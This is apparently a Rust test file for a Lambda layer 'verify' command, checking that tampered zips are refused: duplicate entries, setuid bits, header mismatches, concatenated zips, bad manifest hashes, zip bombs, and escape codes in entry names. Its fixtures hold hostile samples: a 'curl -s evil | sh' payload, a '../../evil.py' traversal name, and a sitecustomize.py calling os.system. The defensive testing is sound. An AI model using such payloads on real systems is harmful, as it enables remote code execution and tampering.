//! `verify` against zips rewritten by someone who also rewrites the manifest and checksum to
//! match: every check must stand on the zip's own bytes (issue 14, items 5, 6, 7, 9, 10, 11, 12).

use std::time::Duration;

use sha2::{Digest, Sha256};

use crate::layer::{Layer, entry_record, sha};
use crate::rawzip::{self, Layout, RawEntry};
use crate::run;

/// The layer's entries, rewritten with `f`, written back with `layout`, manifest kept in line.
fn tamper(l: &Layer, layout: &Layout, f: impl FnOnce(&mut Vec<RawEntry>)) {
    let mut entries = rawzip::read(&l.bytes());
    f(&mut entries);
    l.replace_zip(&rawzip::write(&entries, layout));
}

fn find<'a>(entries: &'a mut [RawEntry], name: &str) -> &'a mut RawEntry {
    entries.iter_mut().find(|e| e.name == name.as_bytes()).unwrap()
}

/// Why `verify` did not refuse the layer as it should (exit 1, naming one of `words`), if so.
fn not_refused(l: &Layer, what: &str, words: &[&str]) -> Option<String> {
    let out = l.verify();
    let err = out.stderr.to_lowercase();
    if out.code() == Some(1) && words.iter().any(|w| err.contains(w)) {
        return None;
    }
    Some(format!(
        "{what}: exit {:?}, stdout {:?}, stderr {:?} (expected exit 1 naming one of {words:?})",
        out.code(),
        out.stdout.trim(),
        out.stderr.trim()
    ))
}

fn refused(l: &Layer, what: &str, words: &[&str]) {
    if let Some(why) = not_refused(l, what, words) {
        panic!("{why}");
    }
}

/// Every case is tried; the test fails listing all that passed verify.
fn all_refused(failures: Vec<Option<String>>) {
    let failures: Vec<String> = failures.into_iter().flatten().collect();
    assert!(failures.is_empty(), "not refused:\n{}", failures.join("\n"));
}

#[test]
fn the_untouched_layer_verifies() {
    let l = Layer::new();
    l.verify().expect_code(0, "untouched layer");
    // The rewriter itself changes nothing when asked to change nothing.
    tamper(&l, &Layout::default(), |_| {});
    l.verify().expect_code(0, "layer rewritten as it was");
}

#[test]
fn duplicate_entries_are_refused() {
    let l = Layer::new();
    tamper(&l, &Layout::default(), |entries| {
        entries.insert(
            0,
            RawEntry::stored("otel-instrument", 0o755, b"#!/bin/sh\ncurl -s evil | sh\n"),
        );
    });
    refused(&l, "two otel-instrument entries", &["twice", "duplicate"]);
}

#[test]
fn setuid_setgid_and_sticky_bits_are_seen() {
    let cases = [
        ("otel-instrument", 0o104755),
        ("otel-instrument", 0o102755),
        ("extensions/collector", 0o101755),
        ("python/", 0o041755),
    ];
    all_refused(
        cases
            .iter()
            .map(|&(name, mode)| {
                let l = Layer::new();
                tamper(&l, &Layout::default(), |entries| {
                    find(entries, name).external = rawzip::unix_attrs(mode);
                });
                not_refused(
                    &l,
                    &format!("{name} stored as {mode:o}"),
                    &["setuid", "setgid", "sticky", "special"],
                )
            })
            .collect(),
    );
}

#[test]
fn local_headers_that_disagree_with_the_central_directory_are_refused() {
    type Change = fn(&mut RawEntry);
    let cases: [(&str, Change); 3] = [
        ("another name", |e| e.local_name = Some(b"../../evil.py".to_vec())),
        ("another size", |e| e.local_size = Some(e.size as u32 + 1)),
        ("another method", |e| e.local_method = Some(0)),
    ];
    all_refused(
        cases
            .iter()
            .map(|(what, change)| {
                let l = Layer::new();
                tamper(&l, &Layout::default(), |entries| {
                    change(find(entries, "python/otel_wrapper.py"))
                });
                not_refused(&l, &format!("local header with {what}"), &["local header"])
            })
            .collect(),
    );
}

#[test]
fn bytes_outside_the_zip_structure_are_refused() {
    let junk = b"#!/bin/sh\necho not part of any entry\n".repeat(3);
    let layouts = [
        (
            "bytes before the first entry",
            Layout {
                prefix: junk.clone(),
                ..Layout::default()
            },
        ),
        (
            "bytes before the central directory",
            Layout {
                gap: junk.clone(),
                ..Layout::default()
            },
        ),
        (
            "bytes after the end record",
            Layout {
                suffix: junk.clone(),
                ..Layout::default()
            },
        ),
    ];
    all_refused(
        layouts
            .iter()
            .map(|(what, layout)| {
                let l = Layer::new();
                tamper(&l, layout, |_| {});
                not_refused(&l, what, &["bytes", "trailing", "concatenated"])
            })
            .collect(),
    );
}

#[test]
fn two_zips_concatenated_are_refused() {
    let l = Layer::new();
    let other = rawzip::write(
        &[RawEntry::stored(
            "python/sitecustomize.py",
            0o644,
            b"import os\nos.system('id')\n",
        )],
        &Layout::default(),
    );
    let mut both = other;
    both.extend_from_slice(&l.bytes());
    l.replace_zip(&both);
    refused(&l, "a zip in front of the layer", &["bytes", "concatenated"]);
}

#[test]
fn the_manifest_zip_record_is_checked_against_the_zip() {
    let l1 = Layer::new();
    l1.edit_manifest(|m| m["zip"]["code_sha256"] = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=".into());
    let l2 = Layer::new();
    l2.edit_manifest(|m| {
        let size = m["zip"]["size"].as_u64().unwrap();
        m["zip"]["size"] = (size + 1).into();
    });
    let l3 = Layer::new();
    l3.edit_manifest(|m| m["collector"]["sha256"] = "00".repeat(32).into());
    all_refused(vec![
        not_refused(&l1, "code_sha256 of another zip", &["code_sha256"]),
        not_refused(&l2, "zip size off by one", &["size"]),
        not_refused(&l3, "collector sha256 of another binary", &["collector"]),
    ]);
}

/// A layer with `python/big.bin` of `mib` MiB of zeros, listed in the manifest as it is.
fn layer_with_zeros(mib: usize) -> Layer {
    let l = Layer::new();
    let chunk = vec![0u8; 1 << 20];
    let big = rawzip::big_entry("python/big.bin", 0o644, &chunk, mib);
    let mut h = Sha256::new();
    for _ in 0..mib {
        h.update(&chunk);
    }
    let digest = hex::encode(h.finalize());
    let size = big.size;
    tamper(&l, &Layout::default(), |entries| {
        let at = entries.iter().position(|e| e.name == b"python/demo/").unwrap();
        entries.insert(at, big);
    });
    l.edit_manifest(|m| {
        let entries = m["entries"].as_array_mut().unwrap();
        entries.push(serde_json::json!({"path": "python/big.bin", "mode": "0644", "size": size, "sha256": digest}));
        let total: u64 = entries.iter().map(|e| e["size"].as_u64().unwrap()).sum();
        m["zip"]["unzipped_size"] = total.into();
    });
    l
}

#[test]
fn a_manifest_cannot_raise_lambdas_unzipped_limit() {
    // 250 MiB + 1 MiB is over Lambda's 262,144,000 bytes on its own.
    let l = layer_with_zeros(251);
    l.edit_manifest(|m| m["limits"]["unzipped_bytes"] = 1_000_000_000_000u64.into());
    refused(
        &l,
        "a layer over 262,144,000 bytes unzipped",
        &["262144000", "262,144,000"],
    );
}

#[test]
fn verify_memory_stays_bounded_on_a_zip_bomb() {
    // 200 MiB of zeros deflate to about 200 KiB; the layer stays under Lambda's limit, so
    // only streaming keeps verify small.
    let l = layer_with_zeros(200);
    let out = run::run_measured(l.verify_cmd(), Duration::from_secs(120));
    eprintln!(
        "verify of a {}-byte zip holding 200 MiB: peak RSS {} KiB, {:?}",
        l.bytes().len(),
        out.max_rss_kib,
        out.elapsed
    );
    out.expect_code(0, "a big but honest layer");
    assert!(
        out.max_rss_kib < 64 * 1024,
        "verify held {} KiB at its peak for a {}-byte zip",
        out.max_rss_kib,
        l.bytes().len()
    );
}

#[test]
fn entry_names_cannot_write_to_the_terminal() {
    let l = Layer::new();
    let forged = "python/x\n\u{1b}[1A\u{1b}[2Kok dist/demo-layer-amd64-ver-1-2-3.zip (10 entries)";
    tamper(&l, &Layout::default(), |entries| {
        entries.push(RawEntry::stored(forged, 0o644, b""));
    });
    let out = l.verify();
    out.expect_code(1, "an entry name with escapes");
    assert!(
        !out.stderr.contains('\u{1b}'),
        "raw ESC reached stderr:\n{:?}",
        out.stderr
    );
    assert!(
        !out.stderr
            .lines()
            .chain(out.stdout.lines())
            .any(|line| line.starts_with("ok ")),
        "a forged ok line:\n{:?}",
        out.stderr
    );
}

#[test]
fn long_manifest_values_are_cut_in_messages() {
    let l = Layer::new();
    l.edit_manifest(|m| m["layer"]["arch"] = "x".repeat(10 << 20).into());
    let out = l.verify();
    out.expect_code(1, "a 10 MiB arch name");
    assert!(
        out.stderr.len() < 16 << 10,
        "{} bytes on stderr for one error",
        out.stderr.len()
    );
}

#[test]
fn two_zips_with_one_manifest_is_a_usage_error() {
    let l = Layer::new();
    let mut cmd = run::layerbuild(l.dir.path());
    cmd.arg("verify")
        .arg(l.zip())
        .arg(l.zip())
        .arg("--manifest")
        .arg(l.manifest_path());
    let out = run::run(cmd, Duration::from_secs(30));
    out.expect_code(2, "two zips and --manifest");
}

#[test]
fn an_entry_added_with_a_consistent_manifest_still_obeys_the_rules() {
    // Sanity of the rewriting helpers: a well-formed extra file listed in the manifest passes,
    // so the refusals above come from the hostile part alone.
    let l = Layer::new();
    let data = b"print('hi')\n";
    tamper(&l, &Layout::default(), |entries| {
        let at = entries.iter().position(|e| e.name == b"python/demo/").unwrap();
        entries.insert(at, RawEntry::deflated("python/added.py", 0o644, data));
    });
    l.edit_manifest(|m| {
        m["entries"]
            .as_array_mut()
            .unwrap()
            .push(entry_record("python/added.py", "0644", data));
        let total = m["zip"]["unzipped_size"].as_u64().unwrap() + data.len() as u64;
        m["zip"]["unzipped_size"] = total.into();
    });
    l.verify().expect_code(0, "an honest extra entry");
    assert_eq!(
        sha(b""),
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    );
}
